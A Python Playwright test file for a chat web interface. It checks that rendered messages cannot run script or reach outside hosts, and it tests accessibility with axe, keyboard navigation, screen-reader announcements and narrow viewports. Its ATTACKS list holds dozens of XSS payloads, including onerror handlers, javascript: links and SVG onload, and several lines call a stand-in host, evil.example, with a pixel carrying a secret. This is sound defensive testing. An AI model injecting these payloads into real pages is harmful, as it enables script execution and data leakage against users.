"""What Claude, a tool or a person says cannot run, and cannot reach another host. Anyone can use the page."""

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import FilePayload, expect

from antiphon.simulator import Fail, Reply, Simulator
from tests.web.asking import ask
from tests.web.histories import long_conversation
from tests.web.visitor import Visitor

AXE = Path(__file__).parents[2] / "web" / "node_modules" / "axe-core" / "axe.min.js"

_SVG = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()

ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "![pixel](http://evil.example/pixel.png?secret=1)",
    "![pixel](data:image/svg+xml;base64," + _SVG + ")",
    '![a](x"onerror="alert(1))',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](vbscript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '[x](http://a.example "onmouseover=alert(1) x=")',
    "<svg/onload=alert(1)><svg><script>alert(1)</script></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<iframe src='javascript:alert(1)'></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object><embed src='//evil.example'>",
    "<style>@import 'http://evil.example/x.css';*{display:none!important}</style>",
    "<link rel=stylesheet href='http://evil.example/x.css'><base href='http://evil.example/'>",
    "<form action='http://evil.example'><input name=x autofocus onfocus=alert(1)><button>Go</button></form>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='http://a.example' style='position:fixed;inset:0'>everywhere</a>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><img src=x onerror=alert(1)></template>",
    "```<img/src=x/onerror=alert(1)>\n<script>alert(1)</script>\n```",
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "| <img src=x onerror=alert(1)> | b |\n|---|---|\n| <script>alert(1)</script> | x |",
    "| a |\n|---|\n| [x](javascript:alert(1)) |",
    "`<img src=x onerror=alert(1)>` **<img src=x onerror=alert(1)>**",
    "[ref]: javascript:alert(1)\n\n[ref] and ![ref]",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "<p id=root name=body><a id=x><a id=x name=innerHTML>clobber</a></p>",
    "- [ ] <input type=image src=http://evil.example/x.png onerror=alert(1)>",
)

TOO_LARGE = {"type": "/problems/too-large", "title": "", "status": 413, "detail": "It is too large."}

WITHIN = (
    "script, style, iframe, object, embed, form, link, base, meta, video, audio, math, svg:not(.glyph), "
    "[style], [id]"
)
"""What must not be within anything that was said."""


def test_nothing_that_is_said_runs_or_reaches_another_host(visitor: Visitor, simulator: Simulator) -> None:
    text = "\n\n".join(ATTACKS)
    call = {"type": "tool_use", "name": "<img src=x onerror=alert(1)>", "input": {"html": ATTACKS[1]}}
    cited = {"type": "text", "text": "So it is.", "citations": [{"url": "javascript:alert(1)", "title": "x"}]}
    said = {"type": "text", "text": text}
    simulator.script(Reply(content=(said, cited, call), thinking=text, delta_chars=7))
    visitor.say(text)
    visitor.expect_rest()
    visitor.page.evaluate("document.querySelectorAll('details').forEach(node => { node.open = true; })")
    expect(visitor.questions).to_have_text(text)
    within = visitor.page.locator(".rows .markdown, .rows .bubble, .rows .tool, .rows .thinking")
    assert within.locator(WITHIN).count() == 0
    read = "all => all.flatMap(n => [...n.attributes].map(a => [a.name, a.value]))"
    attributes: list[tuple[str, str]] = within.locator("*").evaluate_all(read)
    assert not [name for name, _ in attributes if name.startswith("on")]
    links = [value for name, value in attributes if name in ("href", "src")]
    assert links
    assert not [link for link in links if not link.startswith(("http://", "https://", "mailto:"))]
    visitor.page.reload()
    expect(visitor.questions).to_have_text(text)
    assert visitor.page.evaluate("document.title").endswith("Antiphon")


def serious(visitor: Visitor) -> list[Any]:
    """What axe finds wrong that keeps somebody from using the page."""
    visitor.page.context.set_default_timeout(30_000)
    run = AXE.read_text() + "; axe.run({resultTypes: ['violations']})"
    found: list[dict[str, Any]] = visitor.page.evaluate(run)["violations"]
    return [
        (each["id"], [node["html"][:150] for node in each["nodes"]])
        for each in found
        if each["impact"] in ("serious", "critical")
    ]


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_fault(scheme: Any, visitor: Visitor, simulator: Simulator) -> None:
    visitor.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    assert serious(visitor) == []
    code = "Some **text**, a [link](https://example.com) and code:\n\n```python\nprint('hello')  # hi\n```\n"
    simulator.script(Reply(text=code, thinking="Hm.", stop_reason="max_tokens"), Fail(status=529))
    visitor.say("Show me.")
    visitor.expect_rest()
    visitor.say("More.")
    expect(visitor.page.locator(".ending.wrong")).to_be_visible()
    assert serious(visitor) == []
    visitor.page.locator(".facts").last.click()
    visitor.page.set_viewport_size({"width": 360, "height": 700})
    assert serious(visitor) == []
    visitor.page.keyboard.press("Escape")
    visitor.button("Conversations").click()
    assert serious(visitor) == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_no_serious_fault_where_something_is_asked_or_sought(
    scheme: Any, visitor: Visitor, simulator: Simulator
) -> None:
    visitor.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    ask(visitor, simulator, "forecast", "clock")
    visitor.approval("forecast").get_by_role("button", name="Deny…").click()
    visitor.button("Deny").click()
    expect(visitor.approval("forecast")).to_have_count(0)
    visitor.button("Edit…").click()
    note: FilePayload = {"name": "notes.doc", "mimeType": "text/plain", "buffer": b"\0\1\2"}
    visitor.page.locator("input[type=file][multiple]").set_input_files([note])
    expect(visitor.page.get_by_role("alert")).to_contain_text("PNG, JPEG, GIF and WebP images")
    assert serious(visitor) == []
    visitor.button("Back").click()
    visitor.button("Deny…").click()
    visitor.site.post("/v1/conversations/import", long_conversation(messages=2))
    visitor.page.get_by_role("searchbox").fill("question")
    expect(visitor.page.locator(".hit mark").first).to_be_visible()
    assert serious(visitor) == []


def test_a_screen_reader_is_told_sentences_and_the_end(visitor: Visitor, simulator: Simulator) -> None:
    simulator.script(Reply(text="It is blue. And wide."))
    visitor.say("The sky?")
    visitor.expect_rest()
    told = visitor.page.locator("[aria-live=polite]").filter(has_text="The answer is complete.")
    expect(told).to_have_count(1)


def test_everything_can_be_reached_by_keyboard(visitor: Visitor, simulator: Simulator) -> None:
    simulator.script(Reply(text="First."), Reply(text="Second."))
    visitor.say("Hello.")
    visitor.expect_rest()
    reached: set[str] = set()
    for _ in range(25):
        visitor.page.keyboard.press("Shift+Tab")
        name = "document.activeElement.getAttribute('aria-label') ?? document.activeElement.textContent"
        reached.add(visitor.page.evaluate(name))
    wanted = {"Edit message", "Copy answer", "Answer again", "Actions for this conversation", "Conversation"}
    assert wanted <= reached, json.dumps(sorted(reached))


def test_nothing_is_wider_than_a_small_phone(visitor: Visitor, simulator: Simulator) -> None:
    visitor.page.set_viewport_size({"width": 360, "height": 640})
    table = "| a | b |\n|---|---|\n| " + "wide" * 30 + " | " + "wider" * 30 + " |"
    simulator.script(Reply(text="wide" * 200 + "\n\n```\n" + "code " * 100 + "\n```\n\n" + table))
    visitor.say("narrow" * 50)
    visitor.expect_rest()
    for part in ("html", "main", ".scroller", ".composer"):
        box = visitor.page.locator(part)
        assert box.evaluate("node => node.scrollWidth <= node.clientWidth"), part
